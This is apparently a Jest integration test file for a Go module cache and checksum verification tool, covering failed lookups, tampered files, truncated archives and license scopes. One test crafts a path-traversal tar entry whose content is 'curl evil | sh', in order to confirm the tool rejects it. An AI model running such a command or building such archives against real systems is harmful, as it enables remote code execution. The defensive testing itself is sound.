import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import fs from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { LocalBackend, layoutVersion } from '../../src/cache/local-backend.js';
import { moduleCachePaths } from '../../src/cache/module-path.js';
import { MemoryLogger } from '../../src/logger.js';
import { runWarden } from '../../src/run.js';
import { startFixtureWorld, type FixtureWorld } from '../../test-support/fixture-world.js';
import { removeTree, type GoSandbox } from '../../test-support/go-sandbox.js';
import { compress, craftTar } from '../../test-support/tar-writer.js';

/**
 * The whole run as the CLI does it (runWarden without a post step: restore, prime, checks, then
 * the save right after), with the real go, the fixture proxy and checksum database on loopback,
 * and the local backend. Faults are injected at the database (or a front that fails one lookup).
 */
describe('what a run saves, restores and says about the cache', () => {
  let world: FixtureWorld;
  let sandbox: GoSandbox;
  let front: http.Server;
  let frontUrl = '';
  /** Lookups whose path contains this answer 503 at the front. */
  let failLookup: string | undefined;

  beforeAll(async () => {
    world = await startFixtureWorld();
    sandbox = await world.freshSandbox();
    front = http.createServer((req, res) => {
      if (failLookup && req.url?.startsWith('/lookup/') && req.url.includes(failLookup)) {
        res.writeHead(503).end('lookup unavailable');
        return;
      }
      const upstream = http.request(`${world.sumdb.url}${req.url}`, { method: req.method }, (up) => {
        res.writeHead(up.statusCode ?? 502, up.headers);
        up.pipe(res);
      });
      upstream.on('error', () => res.writeHead(502).end());
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => front.listen(0, '127.0.0.1', resolve));
    frontUrl = `http://127.0.0.1:${(front.address() as AddressInfo).port}`;
  });
  afterEach(() => {
    world.sumdb.tamper.status = undefined;
    failLookup = undefined;
  });
  afterAll(async () => {
    await new Promise((resolve) => front?.close(resolve));
    await world?.close();
  });

  const gomodcache = () => sandbox.env.GOMODCACHE as string;

  async function runCli(name: string, inputs: Record<string, string> = {}) {
    const temp = path.join(sandbox.root, `temp-${name}`);
    await fs.mkdir(temp, { recursive: true });
    const logger = new MemoryLogger();
    const result = await runWarden(
      {
        'working-directory': world.project,
        proxy: world.proxy.url,
        sumdb: `${world.sumdb.verifierKey} ${frontUrl}`,
        'cache-backend': 'local',
        'cache-dir': path.join(sandbox.root, 'warden-cache'),
        'report-file': path.join(temp, 'report.json'),
        ...inputs,
      },
      { ...sandbox.env, RUNNER_TEMP: temp },
      logger,
      { cacheBackend: (_kind, dir) => new LocalBackend(dir) },
    );
    const left = (await fs.readdir(temp, { recursive: true })).filter((f) =>
      /cache-(archive|keep)/.test(String(f)),
    );
    return { ...result, logger, left };
  }

  async function entryFiles(key: string): Promise<string[]> {
    const elsewhere = path.join(sandbox.root, `entry-${Date.now()}`);
    const restored = await new LocalBackend(path.join(sandbox.root, 'warden-cache')).restore(
      elsewhere,
      key,
      [],
    );
    await removeTree(elsewhere);
    return [...(restored?.files ?? [])];
  }

  it('saves nothing when the checksum step fails (the database answers 503), even with cache-save: true, and says why', async () => {
    await removeTree(gomodcache());
    world.sumdb.tamper.status = 503;
    const { report, left } = await runCli('db-down', { 'cache-save': 'true' });
    expect(report.status).toBe('failed');
    expect(report.cache?.save).toEqual(
      expect.objectContaining({ saved: false, reason: expect.stringMatching(/the run failed/) }),
    );
    expect(await new LocalBackend(path.join(sandbox.root, 'warden-cache')).entries()).toEqual([]);
    expect(left).toEqual([]);
  });

  it('keeps a module whose own lookup failed out of the entry, names it, and saves the rest', async () => {
    await removeTree(gomodcache());
    failLookup = 'example.test/beta';
    const { report, left } = await runCli('one-lookup-down', { 'sumdb-unavailable': 'warn' });
    expect(report.status).toBe('warned');
    expect(report.cache?.leftOut).toEqual([
      expect.objectContaining({ module: expect.stringMatching(/^example\.test\/beta@/) }),
    ]);
    expect(report.cache?.save).toEqual(expect.objectContaining({ saved: true }));
    const files = await entryFiles(report.cache?.save?.key as string);
    expect(files.filter((f) => f.includes('example.test/beta/'))).toEqual([]);
    expect(files.some((f) => f.includes('example.test/alpha/@v/'))).toBe(true);
    expect(files.some((f) => f.startsWith('cache/download/sumdb/'))).toBe(true);
    expect(left).toEqual([]);
  });

  it('checks what is in the module cache even with cache: false, purging an altered extracted file', async () => {
    await removeTree(gomodcache());
    expect((await runCli('prime', { cache: 'false' })).report.status).toBe('passed');
    const alpha = moduleCachePaths(gomodcache(), { path: 'example.test/alpha', version: 'v1.0.0' });
    const [file] = (await fs.readdir(alpha.extracted)).filter((f) => f.endsWith('.go'));
    await fs.chmod(alpha.extracted, 0o755);
    await fs.chmod(path.join(alpha.extracted, file), 0o644);
    await fs.appendFile(path.join(alpha.extracted, file), '\n// altered\n');
    const { report } = await runCli('altered', { cache: 'false' });
    expect(report.status).toBe('warned');
    expect(report.cache?.purged.map((p) => `${p.path}@${p.version}`)).toEqual(['example.test/alpha@v1.0.0']);
    expect(report.findings.map((f) => f.message).join('\n')).toMatch(/dir has been modified/);
  });

  it('rejects a crafted entry under the primary key as a security warning, goes on as a miss and replaces it', async () => {
    await removeTree(gomodcache());
    const cacheDir = path.join(sandbox.root, 'warden-cache');
    const first = await runCli('key');
    const key = first.report.cache?.key as string;
    // Replace the good entry with a crafted one under the same key.
    for (const e of await new LocalBackend(cacheDir).entries()) await fs.rm(e.dir, { recursive: true });
    const dir = path.join(cacheDir, 'entries', 'crafted');
    await fs.mkdir(dir, { recursive: true });
    const outside = path.join(sandbox.root, 'escaped');
    await fs.writeFile(
      path.join(dir, 'archive.tar'),
      compress(craftTar([{ name: `${outside}/bashrc`, data: 'curl evil | sh' }]), 'zstd'),
    );
    await fs.writeFile(
      path.join(dir, 'meta.json'),
      JSON.stringify({ key, version: layoutVersion('zstd'), created: Date.now() + 1e6, compression: 'zstd' }),
    );
    await removeTree(gomodcache());

    const attacked = await runCli('crafted');
    await expect(fs.stat(outside)).rejects.toThrow();
    expect(attacked.report.status).toBe('warned');
    expect(attacked.report.cache?.hit).toBe('miss');
    expect(attacked.report.findings.map((f) => f.message).join('\n')).toMatch(
      new RegExp(`SECURITY: the cache entry '${key}' was rejected.*${outside}/bashrc`),
    );
    expect(attacked.report.cache?.save).toEqual(expect.objectContaining({ saved: true, replaced: true }));

    await removeTree(gomodcache());
    const healed = await runCli('healed');
    expect(healed.report.status).toBe('passed');
    expect(healed.report.cache).toEqual(
      expect.objectContaining({ hit: 'exact', purged: [], complete: true }),
    );
    // An exact hit whose files all verified runs no `go mod download`; go extracts what it builds.
    expect(healed.logger.lines.join('\n')).toMatch(/Priming skipped: exact cache hit/);
    expect(healed.report.download.downloaded).toBe(0);
  });

  it('on an exact hit with license-scope: build-list extracts no module tree: licenses come from the zips; the scopes that need packages load them', async () => {
    const own = { 'cache-dir': path.join(sandbox.root, 'cache-no-trees'), 'license-scope': 'build-list' };
    await removeTree(gomodcache());
    expect((await runCli('fill', own)).report.cache?.save).toEqual(expect.objectContaining({ saved: true }));
    await removeTree(gomodcache());
    const hit = await runCli('hit-no-trees', own);
    expect(hit.report.status).toBe('passed');
    expect(hit.report.cache).toEqual(expect.objectContaining({ hit: 'exact', complete: true }));
    // Only cache/download came back; go extracts a tree when a build first needs it.
    expect(await fs.readdir(gomodcache())).toEqual(['cache']);
    const expressions = Object.fromEntries(
      (hit.report.licenses?.modules ?? []).map((m) => [m.path, m.expression]),
    );
    expect(expressions).toEqual(
      expect.objectContaining({ 'example.test/alpha': 'MIT', 'example.test/gamma/v2': 'Apache-2.0' }),
    );

    await removeTree(gomodcache());
    const scoped = await runCli('hit-imports', { ...own, 'license-scope': 'imports' });
    expect(scoped.report.cache?.hit).toBe('exact');
    expect(scoped.report.status).toBe('passed');
    // What a build imports is only known from its packages, which go extracts to load.
    expect(await fs.readdir(gomodcache())).toContain('example.test');

    // The default scope (shipped), when a policy gates, loads the packages too: the work the job's
    // `go build` does next.
    await removeTree(gomodcache());
    const { 'license-scope': _scope, ...byDefault } = own;
    const shipped = await runCli('hit-shipped', { ...byDefault, 'license-deny': 'AGPL-3.0-only' });
    expect(shipped.report.cache?.hit).toBe('exact');
    expect(shipped.report.status).toBe('passed');
    expect(await fs.readdir(gomodcache())).toContain('example.test');
  });

  it('says "passed with warnings" when the save fails', async () => {
    await removeTree(gomodcache());
    const blocker = path.join(sandbox.root, 'not-a-dir');
    await fs.writeFile(blocker, '');
    const { report, left } = await runCli('save-fails', { 'cache-dir': path.join(blocker, 'cache') });
    expect(report.cache?.save).toEqual(expect.objectContaining({ saved: false, failed: true }));
    expect(report.status).toBe('warned');
    expect(left).toEqual([]);
  });

  it('says "passed with warnings" when the restored entry is truncated, and replaces it with a good one', async () => {
    await removeTree(gomodcache());
    const cacheDir = path.join(sandbox.root, 'warden-cache');
    const first = await runCli('before-truncation');
    const [entry] = (await new LocalBackend(cacheDir).entries()).filter(
      (e) => e.key === first.report.cache?.key,
    );
    const archive = path.join(entry.dir, 'archive.tar');
    await fs.truncate(archive, Math.floor((await fs.stat(archive)).size / 2));
    await removeTree(gomodcache());

    const truncated = await runCli('truncated');
    expect(truncated.report.status).toBe('warned');
    expect(truncated.report.cache?.restoreError).toMatch(/unreadable/);
    expect(truncated.report.cache?.save).toEqual(expect.objectContaining({ saved: true, replaced: true }));
    await removeTree(gomodcache());
    const healed = await runCli('after-truncation');
    expect(healed.report.status).toBe('passed');
    expect(healed.report.cache?.hit).toBe('exact');
  });
});
